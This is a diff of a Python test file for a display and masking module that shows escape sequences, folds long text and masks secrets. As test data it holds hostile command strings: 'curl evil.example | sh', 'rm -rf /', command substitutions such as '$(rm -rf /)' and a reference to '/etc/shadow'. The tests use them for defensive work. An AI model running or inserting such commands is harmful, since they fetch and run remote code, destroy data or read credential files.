@@ -1,9 +1,7 @@
-"""Whatever a text holds, a person sees all of it, unmoved, and no secret of it (H2)."""
+"""Whatever a text holds, a person sees all of it, unmoved, or is told what is folded (H2)."""
 
 from __future__ import annotations
 
-import copy
-import hashlib
 import re
 import time
 import unicodedata
@@ -12,17 +10,17 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from placet.core.canonical import JsonValue, digest_of
 from placet.core.display import (
     MAX_COMBINING,
     MAX_NEWLINES,
     MAX_SPACES,
-    MIN_SHORTENED,
-    masked,
-    shortened,
+    columns,
+    fold,
+    length_of,
+    stretches,
     visible,
 )
-from placet.core.errors import InvalidInput
+from placet.core.masking import Masking
 
 HOSTILE = {
     "colour": ("\x1b[31mred\x1b[0m", "⟦U+001B⟧[31mred⟦U+001B⟧[0m"),
@@ -98,7 +96,7 @@ def test_what_hides_or_moves_text_is_shown_as_a_mark(text: str, shown: str) -> N
 @pytest.mark.parametrize("text", ORDINARY.values(), ids=ORDINARY.keys())
 def test_ordinary_text_is_shown_as_it_is(text: str) -> None:
     assert visible(text) == text
-    assert shortened(text, MIN_SHORTENED) == text
+    assert fold(text, characters=200, lines=2) is None
 
 
 @pytest.mark.promise("H2")
@@ -147,251 +145,94 @@ def test_what_is_shown_is_the_whole_text_and_no_other(text: str, keep_newlines: 
     assert not re.search(rf"[\u0300-\u0333]{{{MAX_COMBINING + 1}}}", shown)
 
 
-# --- shortened
+# --- fold
 
 
 @pytest.mark.promise("H2")
-def test_a_long_text_keeps_head_and_tail_and_says_what_is_left_out() -> None:
+def test_a_long_text_keeps_its_beginning_and_its_end_and_says_how_much_is_left_out() -> None:
     text = "echo " + "x" * 20_000 + "; curl evil.example | sh"
-    shown = shortened(text, 300)
-    assert len(shown) <= 300
-    found = re.fullmatch(
-        r"(echo x+)⟦(\d+) characters left out, sha256 of all ([0-9a-f]{16})⟧"
-        r"(x+; curl evil\.example \| sh)",
-        shown,
-    )
-    assert found is not None
-    assert len(found[1]) + int(found[2]) + len(found[4]) == len(text)
-    assert hashlib.sha256(text.encode()).hexdigest().startswith(found[3])
-    assert abs(len(found[1]) - len(found[4])) <= 1
+    folded = fold(text, characters=300, lines=9)
+    assert folded is not None
+    assert folded.head == text[:150]
+    assert folded.tail == text[-150:]
+    assert folded.left_out == len(text) - 300
+
+
+@pytest.mark.promise("H2")
+def test_a_text_of_many_lines_keeps_the_first_and_the_last() -> None:
+    text = "\n".join(f"line {number}" for number in range(1000))
+    folded = fold(text, characters=10_000, lines=10)
+    assert folded is not None
+    assert folded.head == "\n".join(f"line {number}" for number in range(5))
+    assert folded.tail == "\n".join(f"line {number}" for number in range(995, 1000))
 
 
 @pytest.mark.promise("H2")
 def test_a_text_at_the_limit_is_whole() -> None:
-    assert shortened("x" * 200, 200) == "x" * 200
-    assert "⟦" in shortened("x" * 201, 200)
+    assert fold("x" * 200, characters=200, lines=1) is None
+    assert fold("a\nb", characters=200, lines=2) is None
+    assert fold("x" * 201, characters=200, lines=1) is not None
+    assert fold("a\nb\nc", characters=200, lines=2) is not None
 
 
 @pytest.mark.promise("H2")
-def test_nobody_can_forge_the_note_of_what_is_left_out() -> None:
-    note = "⟦5 characters left out, sha256 of all 0123456789abcdef⟧"
-    assert shortened(note, 200) == visible(note)
-    assert "⟦5 characters" not in shortened(note + "x" * 500, 300)
+def test_no_mark_and_no_mask_is_cut() -> None:
+    secret = Masking(salt="00" * 16).value({"token": "x" * 40})
+    assert isinstance(secret, dict)
+    for middle in ("⟦U+202E⟧", str(secret["token"]), "‹literal ‹›"):
+        for before in range(60):
+            shown = "a" * before + middle + "b" * (200 - before)
+            folded = fold(shown, characters=60, lines=2)
+            assert folded is not None
+            for part in (folded.head, folded.tail):
+                assert set("⟦⟧‹›") & set(part) in (set(), set("⟦⟧‹›") & set(middle))
+                assert middle in part or not set("⟦⟧‹›") & set(part)
 
 
 @pytest.mark.promise("H2")
-def test_what_fits_only_before_its_marks_is_shortened_in_whole_marks() -> None:
-    text = "\u202e\u202d" * 40 + "; rm"
-    shown = shortened(text, MIN_SHORTENED)
-    assert len(shown) <= MIN_SHORTENED
-    assert shown.startswith("⟦U+202E⟧")
-    assert shown.endswith("; rm")
-    head, tail = re.split(r"⟦\d+ characters left out, sha256 of all [0-9a-f]{16}⟧", shown)
-    assert visible(unmarked(head)) == head
-    assert visible(unmarked(tail)) == tail
+def test_the_end_begins_with_no_mark_that_would_combine_with_what_stands_before() -> None:
+    for more in range(4):
+        folded = fold("e\u0301\u0302\u0303" * 500 + "x" * more, characters=200, lines=2)
+        assert folded is not None
+        assert unicodedata.category(folded.tail[0]) != "Mn"
 
 
 @pytest.mark.promise("H2")
-def test_no_mark_of_the_tail_combines_with_the_note() -> None:
-    shown = shortened("e\u0301\u0302\u0303" * 500, 200)
-    assert re.search(r"⟧e\u0301", shown)
-
-
-@pytest.mark.promise("H2")
-@given(st.text(max_size=30), anything, st.integers(1, 400), st.integers(MIN_SHORTENED, 1000))
-def test_a_shortened_text_fits_and_accounts_for_every_character(
-    head: str, text: str, times: int, limit: int
+@given(anything, st.integers(1, 400), st.integers(2, 300), st.integers(2, 20))
+def test_a_folded_text_fits_and_accounts_for_every_character(
+    text: str, times: int, characters: int, lines: int
 ) -> None:
-    text = head + text * times
-    shown = shortened(text, limit)
-    assert len(shown) <= limit
-    found = re.search(r"⟦(\d+) characters left out, sha256 of all [0-9a-f]{16}⟧", shown)
-    if found is None:
-        assert shown == visible(text)
+    text *= times
+    shown = visible(Masking().text(text), keep_newlines=True)
+    assert length_of(shown) == len(text)
+    folded = fold(shown, characters=characters, lines=lines)
+    if folded is None:
+        assert len(shown) <= characters
         return
-    before, after = unmarked(shown[: found.start()]), unmarked(shown[found.end() :])
-    assert before
-    assert after
-    assert unicodedata.category(after[0]) != "Mn" or shown[found.end()] == "⟦"
-    assert text.startswith(before)
-    assert text.endswith(after)
-    assert len(before) + int(found[1]) + len(after) == len(text)
-
-
-def test_a_limit_without_room_is_refused() -> None:
-    with pytest.raises(InvalidInput, match="invalid_limit"):
-        shortened("x", MIN_SHORTENED - 1)
-
-
-# --- masked
+    assert len(folded.head) + len(folded.tail) <= characters
+    assert folded.head.count("\n") + folded.tail.count("\n") < lines
+    assert shown.startswith(folded.head)
+    assert shown.endswith(folded.tail)
+    assert length_of(folded.head) + folded.left_out + length_of(folded.tail) == len(text)
 
 
 @pytest.mark.promise("H2")
-@pytest.mark.parametrize(
-    "key",
-    [
-        "password",
-        "db_password",
-        "userPassword",
-        "PASSWD",
-        "secret",
-        "client-secret",
-        "access_token",
-        "accessToken",
-        "refreshTokens",
-        "token2",
-        "api_key",
-        "apiKey",
-        "X-API-Key",
-        "apikey",
-        "Authorization",
-        "private key",
-        "AWS_SECRET_ACCESS_KEY",
-        "Set-Cookie",
-        "credentials",
-        "passphrase",
-        "userPwd",
-        "db.pass",
-        "ｐａｓｓｗｏｒｄ",
-    ],
-)
-def test_a_text_under_a_secret_name_is_masked_at_any_depth(key: str) -> None:
-    assert masked({key: "hunter2"}) == {key: "‹secret, 7 characters›"}
-    assert masked([{"a": {key: ["x", {"b": "yy"}]}}]) == [
-        {"a": {key: ["‹secret, 1 character›", {"b": "‹secret, 2 characters›"}]}}
-    ]
+@given(anything)
+def test_what_is_placets_own_in_a_shown_text_is_told_apart(text: str) -> None:
+    shown = visible(Masking().text(text), keep_newlines=True)
+    parts = list(stretches(shown))
+    assert "".join(part for _, part in parts) == shown
+    for is_ours, part in parts:
+        assert (part[0] in "⟦‹") == is_ours
+        assert is_ours or not set("⟦⟧‹") & set(part)
 
 
-@pytest.mark.promise("H2")
-@pytest.mark.parametrize(
-    "key",
-    ["tokenizer", "compass", "author", "passenger", "secretary", "keyboard", "key", "hotpot"],
-)
-def test_a_name_that_only_looks_like_a_secret_one_hides_nothing(key: str) -> None:
-    assert masked({key: "x"}) == {key: "x"}
-
-
-@pytest.mark.promise("H1", "H2")
-def test_numbers_that_count_tokens_are_shown_and_numbers_that_are_secret_are_not() -> None:
-    assert masked({"max_tokens": 100, "tokens": ["t"]}) == {
-        "max_tokens": 100,
-        "tokens": ["‹secret, 1 character›"],
-    }
-    assert masked({"otp": 123456, "password": 1.5}) == {
-        "otp": "‹secret, 6 characters›",
-        "password": "‹secret, 3 characters›",
-    }
-
-
-@pytest.mark.promise("H1", "H2")
-def test_truth_values_null_and_the_empty_text_are_shown_under_any_name() -> None:
-    value: JsonValue = {"password": "", "secret": None, "token": True, "auth": []}
-    assert masked(value) == value
-
-
-LETTERS = "aB3" * 20
-JWT = f"eyJ{LETTERS[:20]}.eyJ{LETTERS[:30]}.{LETTERS[:43]}"
-PEM = f"-----BEGIN RSA PRIVATE KEY-----\n{LETTERS}\n{LETTERS}\nAbc=\n-----END RSA PRIVATE KEY-----"
-
-SECRETS = {
-    "OpenAI": "sk-" + LETTERS[:40],
-    "Anthropic": "sk-ant-api03-" + LETTERS,
-    "Stripe": "sk" + "_live_" + LETTERS[:24],
-    "GitHub": "ghp_" + LETTERS[:36],
-    "GitHub, fine": "github_pat_" + LETTERS[:50],
-    "GitLab": "glpat-" + LETTERS[:20],
-    "AWS": "AKIA" + "ABCD" * 4,
-    "Google": "AIza" + LETTERS[:35],
-    "Slack": "xoxb-" + "1" * 11 + "-" + LETTERS[:24],
-    "Hugging Face": "hf_" + LETTERS[:34],
-    "npm": "npm_" + LETTERS[:36],
-    "JWT": JWT,
-    "PEM": PEM,
-    "PEM on one line": PEM.replace("\n", "\\n"),
-}
-
-
-@pytest.mark.promise("H2")
-@pytest.mark.parametrize("secret", SECRETS.values(), ids=SECRETS.keys())
-def test_a_secret_of_a_known_shape_is_masked_wherever_it_stands(secret: str) -> None:
-    mask = f"‹secret, {len(secret)} characters›"
-    assert masked(secret) == mask
-    assert masked({"a": [f"key='{secret}' && rm -rf /"]}) == {"a": [f"key='{mask}' && rm -rf /"]}
-    assert masked({secret: None}) == {mask: None}
-
-
-@pytest.mark.promise("H2")
-@pytest.mark.parametrize(
-    "text, shown",
-    [
-        ("Authorization: Bearer abcdefghijk12345", "Authorization: Bearer ‹secret, 16 characters›"),
-        ("authorization: basic dXNlcjpwYXNzd29yZA==", None),
-        ("psql postgres://me:s3cr3t@db/x", "psql postgres://me:‹secret, 6 characters›@db/x"),
-        ("PGPASSWORD=s3cr3t-9 psql", "PGPASSWORD=‹secret, 8 characters› psql"),
-        ("curl 'x?api_key=abcdef12&y=1'", "curl 'x?api_key=‹secret, 8 characters›&y=1'"),
-        ('{"password": "hunter2", "a": 1,', '{"password": "‹secret, 7 characters›", "a": 1,'),
-    ],
-)
-def test_a_secret_is_masked_inside_a_command_or_an_unreadable_text(
-    text: str, shown: str | None
-) -> None:
-    expected = shown or "authorization: basic ‹secret, 20 characters›"
-    assert masked(text) == expected
-
-
-@pytest.mark.promise("H1", "H2")
-@pytest.mark.parametrize(
-    "text",
-    [
-        "TOKEN=$(rm -rf /)",
-        "password=`reboot`",
-        "https://u:$(reboot)@h/",
-        "--from-file=token=/etc/shadow",
-        "basic responsibilities",
-        "sk-learn-is-a-library-of-models",
-        "-----BEGIN PRIVATE KEY-----\nrm -rf /\n",
-        "-----BEGIN PRIVATE KEY-----; rm -rf /",
-    ],
-)
-def test_no_mask_hides_a_command(text: str) -> None:
-    command = text.rpartition("-----")[2]
-    assert str(masked(text)).endswith(command)
-    assert "-----BEGIN" in text or masked(text) == text
-
-
-@pytest.mark.promise("H2")
-def test_nobody_can_forge_a_mask() -> None:
-    assert masked("‹secret, 24 characters›") == "‹literal ‹›secret, 24 characters›"
-    assert masked({"‹x": "a‹b"}) == {"‹literal ‹›x": "a‹literal ‹›b"}
-
-
-@pytest.mark.promise("H2")
-def test_keys_that_are_masked_alike_are_all_shown() -> None:
-    first, second = "ghp_" + "a" * 30, "ghp_" + "b" * 30
-    assert masked({first: 1, second: 2, "c": 3}) == {
-        "‹secret, 34 characters›": 1,
-        "‹secret, 34 characters› (2)": 2,
-        "c": 3,
-    }
-
-
-json_values = st.recursive(
-    st.one_of(st.none(), st.booleans(), st.integers(-9, 9), st.text(max_size=9)),
-    lambda inner: st.one_of(
-        st.lists(inner, max_size=3),
-        st.dictionaries(st.sampled_from(["a", "token", "auth", "b"]), inner, max_size=3),
-    ),
-    max_leaves=10,
-)
-
-
-@pytest.mark.promise("G3", "H2")
-@given(json_values)
-def test_masking_leaves_the_value_and_its_digest_as_they_were(value: JsonValue) -> None:
-    before, digest = copy.deepcopy(value), digest_of(value)
-    masked(value)
-    assert value == before
-    assert digest_of(value) == digest
+def test_columns_are_rather_too_many_than_too_few() -> None:
+    assert columns("abc ~") == 5
+    assert columns("退款") == 4
+    assert columns("e\u0301") == 1
+    assert columns("жé") == 4, "ambiguous: some terminals give each two"
+    assert columns("💸") == 2
 
 
 # --- time
@@ -401,14 +242,17 @@ def test_masking_leaves_the_value_and_its_digest_as_they_were(value: JsonValue) 
 @pytest.mark.parametrize(
     "unit",
     [
-        "sk-", "eyJ-", "eyJaaaaaaaa.", "://", "://a:", '"', '"a', "bearer ", "token=", "\\n",
-        "-----BEGIN A ", "-----BEGIN PRIVATE KEY-----\n", '"token', "a", "\u202e\u202d", "\u0301",
-        "\u0301\u0302", " ", "⟦", "好",
+        "sk-", "eyJaaaaaaaa.", '"', "-----BEGIN PRIVATE KEY-----\n", '"token', "\u202e\u202d",
+        *(pytest.param(unit, marks=pytest.mark.slow) for unit in (
+            "eyJ-", "://", "://a:", '"a', "bearer ", "token=", "\\n", "-----BEGIN A ", "a",
+            "\u0301", "\u0301\u0302", " ", "⟦", "好",
+        )),
     ],
 )  # fmt: skip
 def test_no_text_makes_display_slow(unit: str) -> None:
     text = unit * (100_000 // len(unit))
     began = time.process_time()
-    masked({"a": text})
-    assert len(shortened(text, 3000, keep_newlines=True)) <= 3000
+    shown = visible(Masking(salt="00" * 16).text(text), keep_newlines=True)
+    folded = fold(shown, characters=3000, lines=100)
+    assert folded is None or len(folded.head) + len(folded.tail) <= 3000
     assert time.process_time() - began < 5
